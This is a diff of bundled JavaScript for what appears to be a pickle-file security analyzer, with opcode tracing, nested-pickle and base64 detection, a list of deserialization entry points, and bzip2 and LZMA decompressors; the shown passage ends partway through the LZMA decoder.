+    const v = parsePythonInt(text);
+    if (v === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
+    return { k: "int", v };
+  }
+  /** Little-endian two's complement integer of n bytes (LONG1/LONG4). */
+  longValue(n) {
+    const data = this.take(n);
+    if (n === 0) return { k: "int", v: 0 };
+    if (n > MAX_EXACT_LONG_BYTES) return { k: "hugeint", digits: n };
+    let v = 0n;
+    for (let i2 = n - 1; i2 >= 0; i2--) v = v << 8n | BigInt(data[i2]);
+    if (data[n - 1] & 128) v -= 1n << BigInt(8 * n);
+    const small = Number(v);
+    return { k: "int", v: Number.isSafeInteger(small) ? small : v };
+  }
+  finishStream(result2) {
+    const name2 = this.a.streams === 0 ? "result" : `result_${this.a.streams}`;
+    this.statement(`${name2} = ${renderValue(result2, this)}`);
+  }
+  statement(s) {
+    if (this.statements.length < MAX_STATEMENTS) this.statements.push(s);
+    else if (this.statements.length === MAX_STATEMENTS) this.statements.push("# ... further statements omitted");
+  }
+  addImport(module2, name2, opcode, dynamic) {
+    const imp = this.a.imports.length;
+    let normalized;
+    if (dynamic) {
+      normalized = "<dynamic>";
+      this.importExprs.push(`getattr(__import__(${module2}), ${name2})`);
+      this.t.importNormalized.push(["", ""]);
+    } else {
+      const n = normalizeGlobal(module2, name2, this.proto);
+      normalized = n.qualified;
+      this.importExprs.push(this.bindImport(n.module, n.name));
+      this.t.importNormalized.push([n.module, n.name]);
+    }
+    const record = { module: module2, name: name2, normalized, opcode, offset: this.opStart, dynamic };
+    this.a.imports.push(record);
+    this.t.importUsedAt.push(-1);
+    this.t.importCalledAt.push(-1);
+    return imp;
+  }
+  /** Chooses the Python expression a `from module import first` binding gives this global. */
+  bindImport(module2, name2) {
+    const dot = name2.indexOf(".");
+    const first = dot < 0 ? name2 : name2.slice(0, dot);
+    const rest = dot < 0 ? "" : name2.slice(dot);
+    const key = `${module2}\0${first}`;
+    let binding = this.importBindings.get(key);
+    if (binding === void 0) {
+      binding = first;
+      for (let i2 = 2; this.usedBindings.has(binding); i2++) binding = `${first}_${i2}`;
+      this.usedBindings.add(binding);
+      this.importBindings.set(key, binding);
+      this.statement(binding === first ? `from ${module2} import ${first}` : `from ${module2} import ${first} as ${binding}`);
+    }
+    return binding + rest;
+  }
+  extension(code3) {
+    const imp = this.a.imports.length;
+    const opcode = OPCODE_NAMES[this.bytes[this.opStart]];
+    this.a.imports.push({
+      module: "copyreg._extension_registry",
+      name: String(code3),
+      normalized: `<extension ${code3}>`,
+      opcode,
+      offset: this.opStart,
+      dynamic: false
+    });
+    this.importExprs.push(`copyreg._inverted_registry[${code3}]`);
+    this.t.importNormalized.push(["", ""]);
+    this.t.importUsedAt.push(-1);
+    this.t.importCalledAt.push(-1);
+    this.push({ k: "global", imp });
+  }
+  persistent(rendered, pid) {
+    const index = this.persidExprs.length;
+    this.persidExprs.push(`persistent_load(${pid === void 0 ? renderValue({ k: "str", v: rendered }, this) : rendered})`);
+    this.a.persistentIds.push({ offset: this.opStart, value: rendered });
+    if (pid !== void 0) this.markArguments(pid);
+    this.push({ k: "persid", index });
+  }
+  calleeName(v) {
+    if (v.k === "global") {
+      const imp = this.a.imports[v.imp];
+      return { name: imp.dynamic ? "<unknown>" : imp.normalized, imp: v.imp };
+    }
+    return { name: "<unknown>", imp: -1 };
+  }
+  call(opcode, callee, args2, kwargs) {
+    const index = this.a.calls.length;
+    const { name: name2, imp } = this.calleeName(callee);
+    const f = renderValue(callee, this);
+    let rendered = renderArgs(args2, this);
+    if (kwargs !== void 0) {
+      const kw = renderKwargs(kwargs, this);
+      if (kw.length > 0) rendered = rendered.length > 0 ? `${rendered}, ${kw}` : kw;
+    }
+    const record = { callee: name2, opcode, offset: this.opStart, args: rendered };
+    this.a.calls.push(record);
+    this.t.callCallee.push(imp);
+    const argList = args2.k === "tuple" ? args2.items : [args2];
+    this.callArgs.push(argList);
+    if (imp >= 0) {
+      if (this.t.importCalledAt[imp] === -1) this.t.importCalledAt[imp] = this.opStart;
+      if (this.t.importUsedAt[imp] === -1) this.t.importUsedAt[imp] = this.opStart;
+    }
+    this.markArguments(args2);
+    if (kwargs !== void 0) this.markArguments(kwargs);
+    if (opcode === "NEWOBJ" || opcode === "NEWOBJ_EX") {
+      const sep4 = rendered.length > 0 ? ", " : "";
+      this.statement(`_var${index} = ${f}.__new__(${f}${sep4}${rendered})`);
+    } else {
+      this.statement(`_var${index} = ${f}(${rendered})`);
+    }
+    if (this.o.classArgHelpers.has(name2)) {
+      const cls = argList[0];
+      if (cls === void 0 || cls.k !== "global") this.t.unsafeClassArgs.push({ offset: this.opStart, callee: name2 });
+    }
+    if (this.o.nested.isLoadsLike(name2) && argList.length > 0) this.nestedPickle(argList[0]);
+    this.push({ k: "call", call: index });
+  }
+  build(target, state) {
+    const offset = this.opStart;
+    let callee = "<unknown>";
+    if (target.k === "global") {
+      callee = this.calleeName(target).name;
+      this.t.mutations.push({ offset, imp: target.imp });
+    } else if (target.k === "call") {
+      callee = this.a.calls[target.call].callee;
+    }
+    const rendered = renderValue(state, this);
+    this.a.calls.push({ callee, opcode: "BUILD", offset, args: rendered });
+    this.t.callCallee.push(-1);
+    this.callArgs.push([state]);
+    this.markArguments(state);
+    this.statement(`${renderValue(target, this)}.__setstate__(${rendered})`);
+  }
+  addItems(target, items, method) {
+    if (target.k === "list" || target.k === "set") {
+      for (const v of items) target.items.push(v);
+      return;
+    }
+    if (target.k === "bytes" && target.bytearray) return;
+    if (target.k === "tuple" || target.k === "frozenset" || target.k === "dict" || !this.isObject(target)) {
+      throw new PickleError(`cannot ${method} to a ${target.k}`, this.opStart);
+    }
+    for (const v of items) this.markArguments(v);
+    const t = renderValue(target, this);
+    if (method === "extend") {
+      this.statement(`${t}.extend(${renderValue({ k: "list", items }, this)})`);
+    } else {
+      for (const v of items) this.statement(`${t}.${method}(${renderValue(v, this)})`);
+    }
+  }
+  setItems(target, items) {
+    if (target.k === "dict") {
+      for (const v of items) target.items.push(v);
+      return;
+    }
+    if (target.k === "list") {
+      for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
+        const key = items[i2];
+        if (key.k !== "int" || typeof key.v !== "number") continue;
+        const at = key.v < 0 ? target.items.length + key.v : key.v;
+        if (at >= 0 && at < target.items.length) target.items[at] = items[i2 + 1];
+      }
+      return;
+    }
+    if (target.k === "bytes" && target.bytearray) return;
+    if (isContainer(target) || !this.isObject(target)) {
+      throw new PickleError(`cannot set items on a ${target.k}`, this.opStart);
+    }
+    for (const v of items) this.markArguments(v);
+    for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
+      this.statement(`${renderValue(target, this)}[${renderValue(items[i2], this)}] = ${renderValue(items[i2 + 1], this)}`);
+    }
+  }
+  /** Values whose methods are unknown to us: results of calls, globals, persistent objects, buffers. */
+  isObject(v) {
+    return v.k === "call" || v.k === "global" || v.k === "persid" || v.k === "buffer" || v.k === "unknown";
+  }
+  /** Marks every global reachable from a call's arguments as used by that call (bounded BFS). */
+  markArguments(root) {
+    if (root.k !== "global" && !isContainer(root)) return;
+    const offset = this.opStart;
+    const seen = /* @__PURE__ */ new Set();
+    const queue = [root];
+    let left = ARG_SCAN_PER_CALL;
+    for (let qi = 0; qi < queue.length; qi++) {
+      if (left-- <= 0 || this.argScanLeft-- <= 0) {
+        this.t.argScanExhausted = true;
+        return;
+      }
+      const v = queue[qi];
+      if (v.k === "global") {
+        if (this.t.importUsedAt[v.imp] === -1) this.t.importUsedAt[v.imp] = offset;
+      } else if (isContainer(v)) {
+        for (const item of v.items) {
+          if ((item.k === "global" || isContainer(item)) && !seen.has(item)) {
+            seen.add(item);
+            queue.push(item);
+          }
+        }
+      }
+    }
+  }
+  nestedPickle(arg) {
+    const inner = this.constantBytes(arg, 0);
+    if (inner === null || inner.length === 0) return;
+    const analysis = this.o.nested.analyze(inner);
+    if (analysis !== void 0 && analysis.isPickle) this.a.nested.push({ offset: this.opStart, analysis });
+  }
+  /** Bytes a value evaluates to when it is a constant or a cheap decoding of one, else null. */
+  constantBytes(v, depth) {
+    if (v.k === "bytes") return v.v;
+    if (v.k === "str") return latin1Bytes(v.v);
+    if (v.k !== "call" || depth > 4) return null;
+    const callee = this.a.calls[v.call].callee;
+    const args2 = this.callArgs[v.call];
+    if (args2.length === 0) return null;
+    if (BYTES_WRAPPERS.has(callee) || callee === "_codecs.encode" || callee === "codecs.encode") {
+      return this.constantBytes(args2[0], depth + 1);
+    }
+    if (BASE64_DECODERS.has(callee) || callee === "codecs.decode" && isBase64Codec(args2[1])) {
+      const encoded = this.constantBytes(args2[0], depth + 1);
+      return encoded === null ? null : decodeBase64(encoded);
+    }
+    return null;
+  }
+};
+function isDottedName(s) {
+  if (s.length === 0 || s.length > 512) return false;
+  let partStart = true;
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c === 46) {
+      if (partStart) return false;
+      partStart = true;
+      continue;
+    }
+    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95 || c >= 128;
+    if (!letter && !(!partStart && c >= 48 && c <= 57)) return false;
+    partStart = false;
+  }
+  return !partStart;
+}
+function isBase64Codec(v) {
+  return v !== void 0 && v.k === "str" && (v.v === "base64" || v.v === "base_64" || v.v === "base-64");
+}
+function latin1Bytes(s) {
+  const out2 = new Uint8Array(s.length);
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c > 255) return null;
+    out2[i2] = c;
+  }
+  return out2;
+}
+function decodeBase64(encoded) {
+  const out2 = new Uint8Array(Math.floor(encoded.length * 3 / 4) + 3);
+  let acc = 0;
+  let bits = 0;
+  let n = 0;
+  for (let i2 = 0; i2 < encoded.length; i2++) {
+    const c = encoded[i2];
+    let d;
+    if (c >= 65 && c <= 90) d = c - 65;
+    else if (c >= 97 && c <= 122) d = c - 71;
+    else if (c >= 48 && c <= 57) d = c + 4;
+    else if (c === 43 || c === 45) d = 62;
+    else if (c === 47 || c === 95) d = 63;
+    else if (c === 61) break;
+    else if (c === 10 || c === 13 || c === 32) continue;
+    else return null;
+    acc = (acc << 6 | d) & 16777215;
+    bits += 6;
+    if (bits >= 8) {
+      bits -= 8;
+      out2[n++] = acc >> bits & 255;
+    }
+  }
+  return out2.subarray(0, n);
+}
+
+// src/artifacts/pickle/sniff.ts
+var PROTOCOL_0_1_STARTS = /* @__PURE__ */ new Set([
+  OP.MARK,
+  OP.EMPTY_LIST,
+  OP.EMPTY_DICT,
+  OP.EMPTY_TUPLE,
+  OP.GLOBAL,
+  OP.NONE,
+  OP.INT,
+  OP.LONG,
+  OP.FLOAT,
+  OP.STRING,
+  OP.UNICODE,
+  OP.BININT,
+  OP.BININT1,
+  OP.BININT2,
+  OP.SHORT_BINSTRING,
+  OP.BINSTRING,
+  OP.BINUNICODE,
+  OP.BINFLOAT
+]);
+var SNIFF_WINDOW = 64 * 1024;
+var SNIFF_OPCODES = 4096;
+var MIN_OPCODES_IN_WINDOW = 16;
+var NO_NESTING = { isLoadsLike: () => false, analyze: () => void 0 };
+function looksLikePickle(bytes) {
+  if (bytes.length < 2) return false;
+  const first = bytes[0];
+  if (first === OP.PROTO) {
+    return bytes[1] >= 2 && bytes[1] <= 5 && bytes.length >= 3 && OPCODE_NAMES[bytes[2]] !== void 0;
+  }
+  if (!PROTOCOL_0_1_STARTS.has(first)) return false;
+  const windowed = bytes.length > SNIFF_WINDOW;
+  const trace = runMachine(windowed ? bytes.subarray(0, SNIFF_WINDOW) : bytes, {
+    limits: {
+      maxOpcodes: SNIFF_OPCODES,
+      maxStackDepth: 1e4,
+      maxMemoEntries: 1e4,
+      maxNesting: 0,
+      maxDecompressedBytes: 0
+    },
+    budget: { opcodes: SNIFF_OPCODES },
+    classArgHelpers: /* @__PURE__ */ new Set(),
+    nested: NO_NESTING
+  });
+  const a = trace.analysis;
+  if (a.streams > 0) return true;
+  if (trace.stoppedBy === "limit") return a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
+  return windowed && trace.stoppedBy === "truncated" && a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
+}
+
+// src/artifacts/pickle/index.ts
+var DEFAULT_PICKLE_OPTIONS = {
+  policy: "denylist",
+  allowGlobals: [],
+  limits: {
+    maxOpcodes: 5e6,
+    maxStackDepth: 1e5,
+    maxMemoEntries: 1e6,
+    maxNesting: 32,
+    maxDecompressedBytes: 1024 * 1024 * 1024
+  }
+};
+var LOADS_LIKE = /* @__PURE__ */ new Set([
+  "pickle.loads",
+  "pickle._loads",
+  "_pickle.loads",
+  "dill.loads",
+  "dill._dill.loads",
+  "cloudpickle.loads",
+  "cloudpickle.cloudpickle.loads",
+  "joblib.numpy_pickle.loads",
+  "numpy.loads",
+  "numpy.core.numeric.loads",
+  "pandas.compat.pickle_compat.loads",
+  "torch.load",
+  "torch.serialization.load",
+  "torch.storage._load_from_bytes"
+]);
+function analyzePickle(bytes, options) {
+  const resolved = {
+    policy: options?.policy ?? DEFAULT_PICKLE_OPTIONS.policy,
+    allowGlobals: options?.allowGlobals ?? DEFAULT_PICKLE_OPTIONS.allowGlobals,
+    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options?.limits }
+  };
+  return analyzeAt(bytes, resolved, 0, { opcodes: resolved.limits.maxOpcodes });
+}
+function analyzeAt(bytes, options, depth, budget) {
+  const nested = {
+    isLoadsLike: (callee) => LOADS_LIKE.has(callee),
+    analyze: (inner) => depth + 1 > options.limits.maxNesting ? nestingLimitReached(inner) : analyzeAt(inner, options, depth + 1, budget)
+  };
+  const trace = runMachine(bytes, { limits: options.limits, budget, classArgHelpers: CLASS_ARG_HELPERS, nested });
+  const a = trace.analysis;
+  a.issues = a.isPickle ? judge(trace, options) : [];
+  return a;
+}
+function nestingLimitReached(bytes) {
+  if (!looksLikePickle(bytes)) return void 0;
+  return {
+    isPickle: true,
+    protocol: null,
+    streams: 0,
+    opcodeCount: 0,
+    bytesConsumed: 0,
+    imports: [],
+    calls: [],
+    persistentIds: [],
+    issues: [
+      {
+        kind: "nested-pickle",
+        severity: "high",
+        message: "Pickles are nested deeper than the nesting limit; the innermost one was not inspected"
+      }
+    ],
+    nested: [],
+    error: { message: "nesting limit reached", offset: 0 }
+  };
+}
+
+// src/artifacts/containers/bzip2.ts
+var LimitReached = class extends Error {
+};
+var CorruptData = class extends Error {
+};
+var BitReader = class {
+  constructor(input) {
+    this.input = input;
+  }
+  input;
+  position = 0;
+  bitBuffer = 0;
+  bitCount = 0;
+  bits(count) {
+    if (count > 24) return this.bits(count - 24) * 16777216 + this.bits(24);
+    while (this.bitCount < count) {
+      if (this.position >= this.input.length) throw new CorruptData("bzip2 data is truncated");
+      this.bitBuffer = (this.bitBuffer & (1 << this.bitCount) - 1) << 8 | this.input[this.position++];
+      this.bitCount += 8;
+    }
+    this.bitCount -= count;
+    return this.bitBuffer >>> this.bitCount & (1 << count) - 1;
+  }
+  bit() {
+    return this.bits(1);
+  }
+  alignToByte() {
+    this.bitCount = 0;
+  }
+  get atEnd() {
+    return this.position >= this.input.length && this.bitCount === 0;
+  }
+  peekBytes(count) {
+    return this.input.subarray(this.position, this.position + count);
+  }
+};
+var Output = class {
+  constructor(max, initial) {
+    this.max = max;
+    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
+  }
+  max;
+  bytes;
+  length = 0;
+  put(byte) {
+    if (this.length >= this.max) throw new LimitReached();
+    if (this.length === this.bytes.length) {
+      const next = new Uint8Array(Math.min(this.max, this.bytes.length * 2));
+      next.set(this.bytes);
+      this.bytes = next;
+    }
+    this.bytes[this.length++] = byte;
+  }
+};
+var BLOCK_MAGIC = 54156738319193;
+var END_MAGIC = 25779555029136;
+var MAX_GROUPS = 6;
+var GROUP_SIZE = 50;
+var MAX_CODE_LENGTH = 20;
+function buildTable(lengths, alphaSize) {
+  let minLength = 32;
+  let maxLength = 0;
+  for (let i2 = 0; i2 < alphaSize; i2++) {
+    minLength = Math.min(minLength, lengths[i2]);
+    maxLength = Math.max(maxLength, lengths[i2]);
+  }
+  const perm = new Int32Array(alphaSize);
+  let p = 0;
+  for (let length = minLength; length <= maxLength; length++) {
+    for (let s = 0; s < alphaSize; s++) if (lengths[s] === length) perm[p++] = s;
+  }
+  const base = new Int32Array(MAX_CODE_LENGTH + 2);
+  const limit = new Int32Array(MAX_CODE_LENGTH + 2).fill(-1);
+  for (let i2 = 0; i2 < alphaSize; i2++) base[lengths[i2] + 1]++;
+  for (let i2 = 1; i2 < base.length; i2++) base[i2] += base[i2 - 1];
+  let code3 = 0;
+  for (let length = minLength; length <= maxLength; length++) {
+    code3 += base[length + 1] - base[length];
+    limit[length] = code3 - 1;
+    code3 <<= 1;
+  }
+  for (let length = minLength + 1; length <= maxLength; length++) {
+    base[length] = (limit[length - 1] + 1 << 1) - base[length];
+  }
+  return { limit, base, perm, minLength };
+}
+function decodeSymbol(reader, table) {
+  let length = table.minLength;
+  let code3 = reader.bits(length);
+  while (length <= MAX_CODE_LENGTH) {
+    if (code3 <= table.limit[length]) {
+      const index = code3 - table.base[length];
+      if (index < 0 || index >= table.perm.length) throw new CorruptData("bzip2 Huffman code out of range");
+      return table.perm[index];
+    }
+    code3 = code3 * 2 + reader.bit();
+    length++;
+  }
+  throw new CorruptData("bzip2 Huffman code is invalid");
+}
+function decodeBlock(reader, blockSizeMax, out2) {
+  reader.bits(32);
+  if (reader.bit()) throw new CorruptData("randomised bzip2 blocks are not supported");
+  const origPtr = reader.bits(24);
+  const used = [];
+  const groupsUsed = reader.bits(16);
+  for (let i2 = 0; i2 < 16; i2++) {
+    if (groupsUsed & 32768 >>> i2) {
+      const symbols = reader.bits(16);
+      for (let j = 0; j < 16; j++) if (symbols & 32768 >>> j) used.push(i2 * 16 + j);
+    }
+  }
+  if (used.length === 0) throw new CorruptData("bzip2 block uses no symbols");
+  const alphaSize = used.length + 2;
+  const groups2 = reader.bits(3);
+  if (groups2 < 2 || groups2 > MAX_GROUPS) throw new CorruptData("bzip2 block has an invalid number of tables");
+  const selectorCount = reader.bits(15);
+  if (selectorCount === 0) throw new CorruptData("bzip2 block has no selectors");
+  const mtfGroups = Array.from({ length: groups2 }, (_, i2) => i2);
+  const selectors = new Uint8Array(selectorCount);
+  for (let i2 = 0; i2 < selectorCount; i2++) {
+    let j = 0;
+    while (reader.bit()) {
+      j++;
+      if (j >= groups2) throw new CorruptData("bzip2 selector out of range");
+    }
+    const group2 = mtfGroups[j];
+    mtfGroups.splice(j, 1);
+    mtfGroups.unshift(group2);
+    selectors[i2] = group2;
+  }
+  const tables = [];
+  for (let t = 0; t < groups2; t++) {
+    const lengths = new Uint8Array(alphaSize);
+    let length = reader.bits(5);
+    for (let s = 0; s < alphaSize; s++) {
+      for (; ; ) {
+        if (length < 1 || length > MAX_CODE_LENGTH) throw new CorruptData("bzip2 code length out of range");
+        if (!reader.bit()) break;
+        length += reader.bit() ? -1 : 1;
+      }
+      lengths[s] = length;
+    }
+    tables.push(buildTable(lengths, alphaSize));
+  }
+  const mtf = Uint8Array.from(used);
+  const counts = new Int32Array(256);
+  const tt = new Uint32Array(blockSizeMax);
+  const endOfBlock = alphaSize - 1;
+  let count = 0;
+  let run3 = 0;
+  let runWeight = 1;
+  let selector = 0;
+  let groupLeft = 0;
+  let table = tables[0];
+  for (; ; ) {
+    if (groupLeft === 0) {
+      if (selector >= selectorCount) throw new CorruptData("bzip2 block ran out of selectors");
+      table = tables[selectors[selector++]];
+      groupLeft = GROUP_SIZE;
+    }
+    groupLeft--;
+    const symbol = decodeSymbol(reader, table);
+    if (symbol <= 1) {
+      run3 += (symbol + 1) * runWeight;
+      runWeight *= 2;
+      if (run3 > blockSizeMax) throw new CorruptData("bzip2 run exceeds the block size");
+      continue;
+    }
+    if (run3 > 0) {
+      if (count + run3 > blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
+      const byte2 = mtf[0];
+      counts[byte2] += run3;
+      for (; run3 > 0; run3--) tt[count++] = byte2;
+      runWeight = 1;
+    }
+    if (symbol === endOfBlock) break;
+    if (count >= blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
+    const index = symbol - 1;
+    const byte = mtf[index];
+    mtf.copyWithin(1, 0, index);
+    mtf[0] = byte;
+    counts[byte]++;
+    tt[count++] = byte;
+  }
+  if (origPtr >= count) throw new CorruptData("bzip2 BWT origin out of range");
+  const starts = new Int32Array(256);
+  for (let i2 = 0, sum = 0; i2 < 256; i2++) {
+    starts[i2] = sum;
+    sum += counts[i2];
+  }
+  for (let i2 = 0; i2 < count; i2++) {
+    const byte = tt[i2] & 255;
+    tt[starts[byte]++] |= i2 << 8;
+  }
+  let position = tt[origPtr] >>> 8;
+  let previous = -1;
+  let repeat = 0;
+  for (let i2 = 0; i2 < count; i2++) {
+    const entry = tt[position];
+    const byte = entry & 255;
+    position = entry >>> 8;
+    if (repeat === 4) {
+      for (let k = 0; k < byte; k++) out2.put(previous);
+      repeat = 0;
+      previous = -1;
+      continue;
+    }
+    if (byte === previous) repeat++;
+    else {
+      repeat = 1;
+      previous = byte;
+    }
+    out2.put(byte);
+  }
+}
+function decodeBzip2(input, maxOutput) {
+  const out2 = new Output(maxOutput, input.length * 4);
+  const reader = new BitReader(input);
+  try {
+    for (let stream = 0; ; stream++) {
+      if (reader.bits(24) !== 4348520) throw new CorruptData("not a bzip2 stream");
+      const level = reader.bits(8) - 48;
+      if (level < 1 || level > 9) throw new CorruptData("invalid bzip2 block size");
+      for (; ; ) {
+        const magic = reader.bits(48);
+        if (magic === END_MAGIC) {
+          reader.bits(32);
+          break;
+        }
+        if (magic !== BLOCK_MAGIC) throw new CorruptData("invalid bzip2 block header");
+        decodeBlock(reader, level * 1e5, out2);
+      }
+      reader.alignToByte();
+      const next = reader.peekBytes(3);
+      if (reader.atEnd || !(next[0] === 66 && next[1] === 90 && next[2] === 104)) break;
+    }
+    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
+  } catch (error) {
+    const bytes = out2.bytes.subarray(0, out2.length);
+    if (error instanceof LimitReached) return { bytes, limitReached: true };
+    if (error instanceof CorruptData) return { bytes, limitReached: false, error: error.message };
+    throw error;
+  }
+}
+
+// src/artifacts/containers/lzma.ts
+var LimitReached2 = class extends Error {
+};
+var CorruptData2 = class extends Error {
+};
+var OutputWindow = class {
+  constructor(max, initial) {
+    this.max = max;
+    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
+  }
+  max;
+  bytes;
+  length = 0;
+  /** Start of the current dictionary (LZMA2 dictionary resets): matches may not reach before it. */
+  dictStart = 0;
+  put(byte) {
+    if (this.length >= this.max) throw new LimitReached2();
+    if (this.length === this.bytes.length) this.grow(this.length + 1);
+    this.bytes[this.length++] = byte;
+  }
+  putBytes(chunk) {
+    for (const byte of chunk) this.put(byte);
+  }
+  /** Byte `distance` positions back (1 = the last byte written). */
+  back(distance) {
+    return this.bytes[this.length - distance];
+  }
+  canReach(distance) {
+    return distance <= this.length - this.dictStart;
+  }
+  grow(need) {
+    const next = new Uint8Array(Math.min(this.max, Math.max(need, this.bytes.length * 2)));
+    next.set(this.bytes.subarray(0, this.length));
+    this.bytes = next;
+  }
+};
+var RangeDecoder = class {
+  constructor(input, position, end) {
+    this.input = input;
+    this.position = position;
+    this.end = end;
+    if (this.next() !== 0) throw new CorruptData2("range coder does not start with 0");
+    for (let i2 = 0; i2 < 4; i2++) this.code = this.code * 256 + this.next();
+    if (this.code === this.range) throw new CorruptData2("range coder initial code is invalid");
+  }
+  input;
+  position;
+  end;
+  range = 4294967295;
+  code = 0;
+  next() {
+    if (this.position >= this.end) throw new CorruptData2("compressed data is truncated");
+    return this.input[this.position++];
+  }
+  normalize() {
+    if (this.range < 16777216) {
+      this.range *= 256;
+      this.code = this.code * 256 + this.next();
+    }
+  }
+  finishedOk() {
+    return this.code === 0;
+  }
+  bit(probs, index) {
+    const prob = probs[index];
+    const bound = (this.range >>> 11) * prob;
+    let result2;
+    if (this.code < bound) {
+      this.range = bound;
+      probs[index] = prob + (2048 - prob >>> 5);
+      result2 = 0;
+    } else {
+      this.range -= bound;
+      this.code -= bound;
+      probs[index] = prob - (prob >>> 5);
+      result2 = 1;
+    }
+    this.normalize();
+    return result2;
+  }
+  direct(count) {
+    let result2 = 0;
+    for (let i2 = 0; i2 < count; i2++) {
+      this.range = Math.floor(this.range / 2);
+      let bit = 0;
+      if (this.code >= this.range) {
+        this.code -= this.range;
+        bit = 1;
+      }
+      result2 = result2 * 2 + bit;
+      this.normalize();
+    }
+    return result2;
+  }
+  tree(probs, offset, bits) {
+    let m = 1;
+    for (let i2 = 0; i2 < bits; i2++) m = m * 2 + this.bit(probs, offset + m);
+    return m - (1 << bits);
+  }
+  reverseTree(probs, offset, bits) {
+    let m = 1;
+    let symbol = 0;
+    for (let i2 = 0; i2 < bits; i2++) {
+      const bit = this.bit(probs, offset + m);
+      m = m * 2 + bit;
+      symbol |= bit << i2;
+    }
+    return symbol;
+  }
+};
+var STATES = 12;
+var POS_STATES_MAX = 16;
+var END_POS_MODEL_INDEX = 14;
+var FULL_DISTANCES = 128;
+var LengthDecoder = class {
+  probs = new Uint16Array(2 + POS_STATES_MAX * 8 * 2 + 256).fill(1024);
+  decode(rc, posState) {
+    if (rc.bit(this.probs, 0) === 0) return rc.tree(this.probs, 2 + posState * 8, 3);
+    if (rc.bit(this.probs, 1) === 0) return 8 + rc.tree(this.probs, 2 + POS_STATES_MAX * 8 + posState * 8, 3);
+    return 16 + rc.tree(this.probs, 2 + POS_STATES_MAX * 16, 8);
+  }
+};
+function parseProperties(byte) {
+  if (byte >= 9 * 5 * 5) throw new CorruptData2("invalid LZMA properties byte");
+  return { lc: byte % 9, lp: Math.floor(byte / 9) % 5, pb: Math.floor(byte / 45) };
+}
+var LzmaState = class {
+  constructor(props, dictSize) {
+    this.props = props;
+    this.dictSize = dictSize;
+    this.reset();
+  }
+  props;
+  dictSize;
+  literal;
+  isMatch = new Uint16Array(STATES * POS_STATES_MAX);
+  isRep = new Uint16Array(STATES);
+  isRepG0 = new Uint16Array(STATES);
+  isRepG1 = new Uint16Array(STATES);
+  isRepG2 = new Uint16Array(STATES);
+  isRep0Long = new Uint16Array(STATES * POS_STATES_MAX);
+  posSlot = new Uint16Array(4 * 64);
+  posDecoders = new Uint16Array(1 + FULL_DISTANCES - END_POS_MODEL_INDEX);
+  align = new Uint16Array(16);
+  lengths = new LengthDecoder();
+  repLengths = new LengthDecoder();
+  state = 0;
+  reps = [0, 0, 0, 0];
+  setProperties(props) {
+    this.props = props;
+  }
+  reset() {
+    this.literal = new Uint16Array(768 << this.props.lc + this.props.lp).fill(1024);
+    for (const probs of [this.isMatch, this.isRep, this.isRepG0, this.isRepG1, this.isRepG2, this.isRep0Long, this.posSlot, this.posDecoders, this.align]) {
+      probs.fill(1024);
+    }
+    this.lengths = new LengthDecoder();
+    this.repLengths = new LengthDecoder();
+    this.state = 0;
+    this.reps = [0, 0, 0, 0];
+  }
+  /**
+   * Decodes until `size` bytes were produced (when given) or the end marker. Returns whether the end marker
+   * was seen.
+   */
+  decode(rc, out2, size) {
+    const { lc, lp, pb } = this.props;
+    const pbMask = (1 << pb) - 1;
+    const lpMask = (1 << lp) - 1;
+    let remaining = size ?? Number.POSITIVE_INFINITY;
+    for (; ; ) {
+      if (remaining === 0) return false;
+      const posState = out2.length & pbMask;
+      if (rc.bit(this.isMatch, (this.state << 4) + posState) === 0) {
+        const prev = out2.length > out2.dictStart ? out2.back(1) : 0;
+        const base = 768 * (((out2.length & lpMask) << lc) + (prev >>> 8 - lc));
+        let symbol = 1;
+        if (this.state >= 7) {
+          let matchByte = out2.back(this.reps[0] + 1);
+          while (symbol < 256) {
+            const matchBit = matchByte >>> 7 & 1;
+            matchByte <<= 1;
+            const bit = rc.bit(this.literal, base + (1 + matchBit << 8) + symbol);
+            symbol = symbol << 1 | bit;
+            if (matchBit !== bit) break;
+          }
+        }
+        while (symbol < 256) symbol = symbol << 1 | rc.bit(this.literal, base + symbol);
+        out2.put(symbol - 256);
+        this.state = this.state < 4 ? 0 : this.state < 10 ? this.state - 3 : this.state - 6;
+        remaining--;
+        continue;
+      }
+      let length;
+      if (rc.bit(this.isRep, this.state) !== 0) {
+        if (out2.length === out2.dictStart) throw new CorruptData2("repeated match before any data");
+        if (rc.bit(this.isRepG0, this.state) === 0) {
+          if (rc.bit(this.isRep0Long, (this.state << 4) + posState) === 0) {
+            this.state = this.state < 7 ? 9 : 11;
+            out2.put(out2.back(this.reps[0] + 1));
+            remaining--;
+            continue;
+          }
+        } else {
+          let distance2;
+          if (rc.bit(this.isRepG1, this.state) === 0) {
+            distance2 = this.reps[1];
+          } else {
+            if (rc.bit(this.isRepG2, this.state) === 0) {
+              distance2 = this.reps[2];
+            } else {
+              distance2 = this.reps[3];
+              this.reps[3] = this.reps[2];
+            }
+            this.reps[2] = this.reps[1];
+          }
+          this.reps[1] = this.reps[0];
+          this.reps[0] = distance2;
+        }
+        length = this.repLengths.decode(rc, posState);
+        this.state = this.state < 7 ? 8 : 11;
+      } else {
+        this.reps[3] = this.reps[2];
+        this.reps[2] = this.reps[1];
+        this.reps[1] = this.reps[0];
+        length = this.lengths.decode(rc, posState);
+        this.state = this.state < 7 ? 7 : 10;
+        const distance2 = this.decodeDistance(rc, length);
+        if (distance2 === 4294967295) {
+          if (!rc.finishedOk()) throw new CorruptData2("end marker with trailing range coder state");
+          return true;
+        }
+        this.reps[0] = distance2;
+      }
+      length += 2;
+      const distance = this.reps[0] + 1;
+      if (distance > this.dictSize + 1 || !out2.canReach(distance)) throw new CorruptData2("match distance beyond the dictionary");
+      if (length > remaining) throw new CorruptData2("match runs past the declared size");
